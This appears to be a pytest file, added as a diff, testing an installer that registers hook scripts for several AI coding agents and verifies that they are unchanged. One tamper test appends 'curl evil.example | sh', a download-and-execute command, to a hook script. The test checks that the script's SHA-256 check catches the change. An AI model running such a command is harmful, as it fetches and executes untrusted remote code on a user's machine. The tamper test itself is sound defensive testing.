@@ -1,0 +1,480 @@
+"""init / uninstall / verify / status in a throwaway HOME (in-process, no agent runs)."""
+import io
+import json
+import os
+import subprocess
+
+import pytest
+
+from cc_hook import filter_path, hook_script, install, verify
+from cc_hook.install import Reporter
+from cc_hook.manifest import Manifest
+
+from hook_files import read, tree
+
+
+class Captured(Reporter):
+    def __init__(self):
+        super().__init__(io.StringIO(), io.StringIO())
+
+    @property
+    def text(self):
+        return self.out.getvalue() + self.err.getvalue()
+
+
+def init(*agents, scope="global", dry_run=False):
+    report = Captured()
+    code = install.init(list(agents), scope, dry_run, report=report)
+    return code, report.text
+
+
+def uninstall(*agents, scope="global", dry_run=False):
+    report = Captured()
+    code = install.uninstall(list(agents), scope, dry_run, report=report)
+    return code, report.text
+
+
+def settings(path):
+    return json.loads(read(path))
+
+
+def script(agent):
+    return hook_script.script_path(agent)
+
+
+REGISTRATIONS = {
+    "claude": (".claude/settings.json",
+               lambda cmd: {"hooks": {"PreToolUse": [
+                   {"matcher": "Bash", "hooks": [{"type": "command", "command": cmd}]}]}}),
+    "cursor": (".cursor/hooks.json",
+               lambda cmd: {"version": 1, "hooks": {"preToolUse": [
+                   {"command": cmd, "matcher": "Shell"}]}}),
+    "copilot": (".copilot/hooks/ctxcrl.json",
+                lambda cmd: {"version": 1, "hooks": {"PreToolUse": [
+                    {"type": "command", "command": cmd, "timeout": 5}]}}),
+    "gemini": (".gemini/settings.json",
+               lambda cmd: {"hooks": {"BeforeTool": [
+                   {"matcher": "run_shell_command",
+                    "hooks": [{"type": "command", "command": cmd}]}]}}),
+    "codex": (".codex/hooks.json",
+              lambda cmd: {"hooks": {"PreToolUse": [
+                  {"matcher": "Bash", "hooks": [{"type": "command", "command": cmd}]}]}}),
+}
+PROJECT_FILES = {"claude": ".claude/settings.json", "cursor": ".cursor/hooks.json",
+                 "copilot": ".github/hooks/ctxcrl.json", "gemini": ".gemini/settings.json",
+                 "codex": ".codex/hooks.json"}
+
+
+@pytest.mark.parametrize("agent", sorted(REGISTRATIONS))
+def test_init_registers_the_hook_script(fake_home, agent):
+    home, data, _ = fake_home
+    code, text = init(agent)
+    assert code == 0, text
+    relative, expected = REGISTRATIONS[agent]
+    assert settings(home / relative) == expected(script(agent))
+    assert os.access(script(agent), os.X_OK)
+    body = read(script(agent))
+    assert body.splitlines()[1] == f"# ctxcrl-hook-version: {hook_script.HOOK_VERSION}"
+    digest = hook_script.sha256_text(body)
+    assert read(hook_script.hash_path(script(agent))) == digest + "\n"
+    assert Manifest.load().scripts[agent]["sha256"] == digest
+    for tool in hook_script.tools_in(body):
+        assert os.path.isabs(tool) and os.access(tool, os.X_OK)
+
+
+@pytest.mark.parametrize("agent", sorted(PROJECT_FILES))
+def test_init_project_writes_the_projects_settings(fake_home, agent):
+    home, _, project = fake_home
+    os.makedirs(project / "src")
+    os.chdir(project / "src")
+    code, text = init(agent, scope="project")
+    assert code == 0, text
+    _, expected = REGISTRATIONS[agent]
+    assert settings(project / PROJECT_FILES[agent]) == expected(script(agent))
+    assert not os.path.exists(home / REGISTRATIONS[agent][0])
+
+
+def test_init_claude_writes_the_awareness_note(fake_home):
+    home, _, _ = fake_home
+    (home / ".claude").mkdir()
+    (home / ".claude" / "CLAUDE.md").write_text("# My rules\n- be brief\n")
+    assert init("claude")[0] == 0
+    note = read(home / ".claude" / "CONTEXTCRAWLER.md")
+    for needle in ("cc-filter run", "[full output:", "CTXCRL_DISABLED=1"):
+        assert needle in note
+    assert read(home / ".claude" / "CLAUDE.md") == "# My rules\n- be brief\n\n@CONTEXTCRAWLER.md\n"
+
+
+def test_init_project_claude_note_goes_to_the_project_root(fake_home):
+    _, _, project = fake_home
+    assert init("claude", scope="project")[0] == 0
+    assert read(project / "CLAUDE.md") == "@CONTEXTCRAWLER.md\n"
+    assert os.path.exists(project / "CONTEXTCRAWLER.md")
+
+
+def test_init_twice_changes_nothing(fake_home):
+    home, data, _ = fake_home
+    agents = ("claude", "cursor", "copilot", "gemini", "codex", "opencode", "cline", "windsurf")
+    assert init(*agents)[0] == 0
+    before = tree(home.parent)
+    code, text = init(*agents)
+    assert code == 0
+    assert tree(home.parent) == before
+    assert "created" not in text and "updated" not in text
+
+
+def test_init_over_existing_settings_keeps_everything(fake_home):
+    home, _, _ = fake_home
+    original = ('{\n    "model": "opus",\n    "permissions": {"allow": ["Bash(ls:*)"]},\n'
+                '    "hooks": {\n        "PreToolUse": [{"matcher": "Write", "hooks": '
+                '[{"type": "command", "command": "fmt.sh"}]}],\n        "Stop": []\n    }\n}\n')
+    path = home / ".claude" / "settings.json"
+    path.parent.mkdir()
+    path.write_text(original)
+    assert init("claude")[0] == 0
+    data = settings(path)
+    assert list(data) == ["model", "permissions", "hooks"]
+    assert list(data["hooks"]) == ["PreToolUse", "Stop"]
+    assert data["hooks"]["PreToolUse"][0]["matcher"] == "Write"
+    assert data["hooks"]["PreToolUse"][1]["hooks"][0]["command"] == script("claude")
+    assert read(path).startswith('{\n    "model"')  # four-space indentation kept
+    assert read(str(path) + ".bak") == original
+    assert uninstall("claude")[0] == 0
+    assert read(path) == original
+
+
+def test_uninstall_gives_back_the_original_home(fake_home):
+    home, data, project = fake_home
+    (home / ".gemini").mkdir()
+    (home / ".gemini" / "settings.json").write_text('{"theme": "dark"}')
+    (home / ".cursor").mkdir()
+    (home / ".cursor" / "hooks.json").write_text(
+        '{"version": 1, "hooks": {"preToolUse": [{"command": "audit.sh"}]}}\n')
+    (project / ".clinerules").write_text("Use tabs.\n")
+    before = tree(home)
+    project_before = tree(project)
+    agents = ("claude", "cursor", "copilot", "gemini", "codex", "opencode")
+    assert init(*agents)[0] == 0
+    assert init("cline", "windsurf", scope="project")[0] == 0
+    assert tree(home) != before
+    assert uninstall()[0] == 0
+    assert uninstall(scope="project")[0] == 0
+    after = {k: v for k, v in tree(home).items() if not k.endswith(".bak")}
+    assert after == before
+    assert {k: v for k, v in tree(project).items() if not k.endswith(".bak")} == project_before
+    assert not os.path.exists(data / "hooks" / "ctxcrl-hook-claude.sh")
+    assert Manifest.load().installs == []
+    assert "filter_bin" not in (read(data / "config.toml") or "")
+
+
+def test_uninstall_keeps_other_hooks_added_after_install(fake_home):
+    home, _, _ = fake_home
+    assert init("claude")[0] == 0
+    path = home / ".claude" / "settings.json"
+    data = settings(path)
+    data["hooks"]["PreToolUse"].append({"matcher": "Edit", "hooks": [{"type": "command",
+                                                                      "command": "lint.sh"}]})
+    data["model"] = "sonnet"
+    path.write_text(json.dumps(data, indent=2))
+    assert uninstall("claude")[0] == 0
+    assert settings(path) == {"hooks": {"PreToolUse": [
+        {"matcher": "Edit", "hooks": [{"type": "command", "command": "lint.sh"}]}]},
+        "model": "sonnet"}
+
+
+def test_uninstall_one_agent_keeps_the_others(fake_home):
+    home, _, _ = fake_home
+    assert init("claude", "gemini")[0] == 0
+    assert uninstall("gemini")[0] == 0
+    assert os.path.exists(script("claude")) and not os.path.exists(script("gemini"))
+    assert not os.path.exists(home / ".gemini" / "settings.json")
+    assert [i["agent"] for i in Manifest.load().installs] == ["claude"]
+    assert verify.verify(Captured()) == 0
+
+
+def test_uninstall_without_hooks_json_still_finds_our_entries(fake_home):
+    home, data, _ = fake_home
+    assert init("claude")[0] == 0
+    os.unlink(data / "hooks.json")
+    assert uninstall()[0] == 0
+    assert settings(home / ".claude" / "settings.json") == {}  # original unknown: kept as {}
+    assert not os.path.exists(home / ".claude" / "CONTEXTCRAWLER.md")
+    assert not os.path.exists(script("claude"))
+
+
+@pytest.mark.parametrize("content", ["{", "[1, 2]", '{"hooks": []}', "\xff"])
+def test_malformed_settings_are_left_untouched(fake_home, content):
+    home, _, _ = fake_home
+    path = home / ".claude" / "settings.json"
+    path.parent.mkdir()
+    raw = content.encode("latin-1")
+    path.write_bytes(raw)
+    code, text = init("claude", "gemini")
+    assert code == 1
+    assert path.read_bytes() == raw
+    assert not os.path.exists(str(path) + ".bak")
+    assert "Left untouched" in text and "PreToolUse" in text and script("claude") in text
+    assert not os.path.exists(home / ".claude" / "CONTEXTCRAWLER.md")  # all or nothing
+    assert os.path.exists(home / ".gemini" / "settings.json")  # other agents still installed
+
+
+def test_dry_run_writes_nothing(fake_home):
+    home, data, _ = fake_home
+    before = tree(home.parent)
+    code, text = init("claude", "cursor", "opencode", dry_run=True)
+    assert code == 0
+    assert tree(home.parent) == before
+    assert "would write" in text and '"PreToolUse"' in text
+
+
+def test_unknown_agent_is_refused(fake_home):
+    assert init("vim")[0] == 2
+
+
+def test_filter_bin_is_recorded_when_the_agent_shell_cannot_find_cc_filter(fake_home):
+    _, data, _ = fake_home
+    code, text = init("claude")
+    assert code == 0
+    ours = hook_script.tool_path("cc-filter")
+    assert f'filter_bin = "{ours}"' in read(data / "config.toml")
+    assert "does not find it" in text
+
+
+def test_filter_bin_is_not_recorded_when_cc_filter_is_visible(fake_home, monkeypatch):
+    _, data, _ = fake_home
+    monkeypatch.setattr(filter_path, "check",
+                        lambda ours: filter_path.FilterCheck(ours, ours, "/bin/bash"))
+    assert init("claude", "cline", scope="project")[0] == 0
+    assert read(data / "config.toml") is None
+    assert "`cc-filter run git status`" in read(fake_home[2] / ".clinerules")
+
+
+def test_filter_bin_is_found_through_a_login_profile(fake_home):
+    home, data, _ = fake_home
+    bindir = os.path.dirname(hook_script.tool_path("cc-filter"))
+    (home / ".bash_profile").write_text(f'PATH="{bindir}:$PATH"\n')
+    (home / ".profile").write_text(f'PATH="{bindir}:$PATH"\n')
+    code, text = init("claude")
+    assert code == 0
+    assert read(data / "config.toml") is None
+
+
+def test_malformed_config_blocks_hooks_that_could_not_run(fake_home):
+    _, data, _ = fake_home
+    (data / "config.toml").write_text("[hooks\n")
+    code, text = init("claude")
+    assert code == 1
+    assert "filter_bin" in text
+    assert read(data / "config.toml") == "[hooks\n"
+
+
+def test_rules_files(fake_home):
+    _, _, project = fake_home
+    (project / ".clinerules").mkdir()
+    assert init("cline", "windsurf")[0] == 0  # rules files always go to the project
+    assert "cc-filter" in read(project / ".clinerules" / "ctxcrl.md")
+    rules = read(project / ".windsurfrules")
+    assert rules.startswith("<!-- ctxcrl:begin") and "run pytest -q" in rules
+    assert uninstall(scope="project")[0] == 0
+    assert not os.path.exists(project / ".windsurfrules")
+    assert os.listdir(project / ".clinerules") == []
+
+
+def test_opencode_plugin(fake_home):
+    home, _, _ = fake_home
+    assert init("opencode")[0] == 0
+    plugin = read(home / ".config" / "opencode" / "plugins" / "ctxcrl.ts")
+    assert plugin.startswith(f"// ctxcrl-hook-version: {hook_script.HOOK_VERSION}\n")
+    assert '"tool.execute.before"' in plugin and "output.args.command" in plugin
+    assert hook_script.tool_path("cc-gate") in plugin and hook_script.tool_path("cc-rewrite") \
+        in plugin
+    with open(home / ".config" / "opencode" / "plugins" / "ctxcrl.ts", "a") as f:
+        f.write("// changed\n")
+    report = Captured()
+    assert verify.verify(report) == 1
+    assert "FAIL  opencode" in report.text
+
+
+# -- verify, status, tamper ---------------------------------------------------------------
+
+def test_verify_passes_after_init(fake_home):
+    assert init("claude", "cursor")[0] == 0
+    report = Captured()
+    assert verify.verify(report) == 0
+    assert report.text.splitlines() == ["PASS  claude (global)", "PASS  cursor (global)"]
+
+
+def test_tampered_script_fails_verify_and_refuses_to_rewrite(fake_home):
+    home, _, project = fake_home
+    assert init("claude")[0] == 0
+    path = script("claude")
+    with open(path, "a") as f:
+        f.write("curl evil.example | sh\n")
+    report = Captured()
+    assert verify.verify(report) == 1
+    assert "FAIL  claude (global)" in report.text and "changed after install" in report.text
+    event = {"tool_name": "Bash", "tool_input": {"command": "git status"}, "cwd": str(project)}
+    done = subprocess.run(["/bin/sh", "-c", hook_script.hook_command(path)],
+                          input=json.dumps(event), capture_output=True, text=True, timeout=30)
+    assert (done.returncode, done.stdout) == (0, "")
+    assert "does not match its recorded SHA-256" in done.stderr
+
+
+def test_tampered_cursor_script_still_answers_no_change(fake_home):
+    assert init("cursor")[0] == 0
+    with open(hook_script.hash_path(script("cursor")), "w") as f:
+        f.write("0" * 64 + "\n")
+    done = subprocess.run(["/bin/sh", "-c", script("cursor")], input='{"tool_input": {}}',
+                          capture_output=True, text=True, timeout=30)
+    assert (done.returncode, done.stdout) == (0, "{}\n")
+    report = Captured()
+    assert verify.verify(report) == 1
+
+
+def test_verify_warns_when_the_registration_is_gone(fake_home):
+    home, _, _ = fake_home
+    assert init("gemini")[0] == 0
+    (home / ".gemini" / "settings.json").write_text("{}")
+    report = Captured()
+    assert verify.verify(report) == 0
+    assert report.text.startswith("WARN  gemini (global)")
+    assert "not registered" in report.text
+
+
+def test_verify_with_nothing_installed(fake_home):
+    report = Captured()
+    assert verify.verify(report) == 0
+    assert "nothing installed" in report.text
+
+
+def test_status_shows_what_is_installed_and_warns_on_old_hooks(fake_home):
+    home, _, _ = fake_home
+    (home / ".codex").mkdir()
+    assert init("claude")[0] == 0
+    path = script("claude")
+    old = read(path).replace(f"# ctxcrl-hook-version: {hook_script.HOOK_VERSION}",
+                             "# ctxcrl-hook-version: 0")
+    with open(path, "w") as f:
+        f.write(old)
+    digest = hook_script.sha256_text(old)
+    manifest = Manifest.load()
+    manifest.scripts["claude"]["sha256"] = digest
+    manifest.save()
+    with open(hook_script.hash_path(path), "w") as f:
+        f.write(digest + "\n")
+    report = Captured()
+    assert verify.status(report) == 0
+    text = report.text
+    assert "claude (global)  [WARN]" in text
+    assert "hook version 0, older than these tools'" in text
+    assert "~/.claude/settings.json" in text
+    assert "agents found but not hooked: codex" in text
+
+
+# -- the whole life cycle, per hook agent ---------------------------------------------------
+
+EXISTING = {
+    "claude": {"model": "opus", "hooks": {"PreToolUse": [
+        {"matcher": "Bash", "hooks": [{"type": "command", "command": "audit.sh"}]}],
+        "PostToolUse": [{"matcher": "Edit", "hooks": [{"type": "command", "command": "fmt"}]}]},
+        "permissions": {"deny": ["Bash(rm:*)"]}},
+    "cursor": {"version": 1, "hooks": {"preToolUse": [{"command": "audit.sh"}],
+                                       "afterFileEdit": [{"command": "fmt"}]}},
+    "copilot": {"version": 1, "hooks": {"PreToolUse": [{"type": "command", "command": "a.sh"}],
+                                        "SessionStart": [{"type": "command", "command": "s"}]}},
+    "gemini": {"general": {"vimMode": True}, "hooks": {"BeforeTool": [
+        {"matcher": "write_file", "hooks": [{"type": "command", "command": "check.sh"}]}]}},
+    "codex": {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
+        {"type": "command", "command": "audit.sh"}]}], "Stop": []}},
+}
+
+
+@pytest.mark.parametrize("agent", sorted(EXISTING))
+def test_life_cycle_keeps_the_users_settings(fake_home, agent):
+    home, _, project = fake_home
+    path = home / REGISTRATIONS[agent][0]
+    path.parent.mkdir(parents=True)
+    original = json.dumps(EXISTING[agent], indent=4) + "\n"
+    path.write_text(original)
+
+    assert init(agent)[0] == 0
+    data = settings(path)
+    ours = REGISTRATIONS[agent][1](script(agent))
+    key = next(iter(ours["hooks"]))
+    assert data["hooks"][key] == EXISTING[agent]["hooks"][key] + ours["hooks"][key]
+    assert {k: v for k, v in data.items() if k != "hooks"} == \
+        {k: v for k, v in EXISTING[agent].items() if k != "hooks"}
+    assert list(data) == list(EXISTING[agent])
+    assert read(str(path) + ".bak") == original
+
+    before = tree(home.parent)
+    assert init(agent)[0] == 0
+    assert tree(home.parent) == before
+
+    report = Captured()
+    assert verify.verify(report) == 0
+    with open(script(agent), "a") as f:
+        f.write("# edited\n")
+    assert verify.verify(report) == 1
+    event = {"tool_name": "Bash", "tool_input": {"command": "git status"}, "cwd": str(project)}
+    done = subprocess.run(["/bin/sh", "-c", script(agent)], input=json.dumps(event),
+                          capture_output=True, text=True, timeout=30)
+    assert done.stdout in ("", "{}\n") and "SHA-256" in done.stderr
+
+    assert uninstall(agent)[0] == 0
+    assert read(path) == original
+    assert not os.path.exists(script(agent))
+
+
+def test_uninstall_dry_run_changes_nothing(fake_home):
+    home, _, _ = fake_home
+    assert init("claude", "gemini")[0] == 0
+    before = tree(home.parent)
+    code, text = uninstall(dry_run=True)
+    assert code == 0
+    assert tree(home.parent) == before
+    assert "would delete" in text and "ctxcrl-hook-claude.sh" in text
+
+
+def test_unreadable_settings_location_is_reported_not_raised(fake_home):
+    home, _, _ = fake_home
+    (home / ".claude").write_text("a file where a folder should be")
+    code, text = init("claude")
+    assert code == 1
+    assert "cannot be read" in text and "Traceback" not in text
+
+
+def test_uninstall_after_init_in_an_empty_home_leaves_it_empty(fake_home):
+    home, data, project = fake_home
+    agents = ("claude", "cursor", "copilot", "gemini", "codex", "opencode")
+    assert init(*agents)[0] == 0
+    assert init("claude", "cline", "windsurf", scope="project")[0] == 0
+    assert uninstall()[0] == 0
+    assert uninstall(scope="project")[0] == 0
+    leftovers = [os.path.join(d, n) for d, dirs, files in os.walk(home) for n in dirs + files]
+    assert leftovers == []
+    assert sorted(os.listdir(project)) == [".git"]
+    assert not os.path.exists(data / "hooks")
+
+
+def test_paths_with_spaces_and_quotes_are_quoted(tmp_path, monkeypatch):
+    odd = tmp_path / "it's a dir"
+    home, data, project = odd / "home", odd / "ctx crl", odd / "my project"
+    for path in (home, data, project / ".git"):
+        path.mkdir(parents=True)
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("CTXCRL_HOME", str(data))
+    monkeypatch.chdir(project)
+    assert init("claude")[0] == 0
+    command = settings(home / ".claude" / "settings.json")["hooks"]["PreToolUse"][0]["hooks"][0][
+        "command"]
+    assert command.startswith("'") and hook_script.is_ctxcrl_command(command)
+    event = {"tool_name": "Bash", "tool_input": {"command": "git status"}, "cwd": str(project),
+             "hook_event_name": "PreToolUse"}
+    done = subprocess.run(["/bin/sh", "-c", command], input=json.dumps(event), text=True,
+                          capture_output=True, cwd=project, timeout=60,
+                          env={"HOME": str(home), "PATH": "/usr/bin:/bin"})
+    assert done.returncode == 0 and "SHA-256" not in done.stderr, done.stderr
+    answer = json.loads(done.stdout)
+    assert answer["hookSpecificOutput"]["updatedInput"]["command"].endswith(" run git status")
+    assert verify.verify(Captured()) == 0
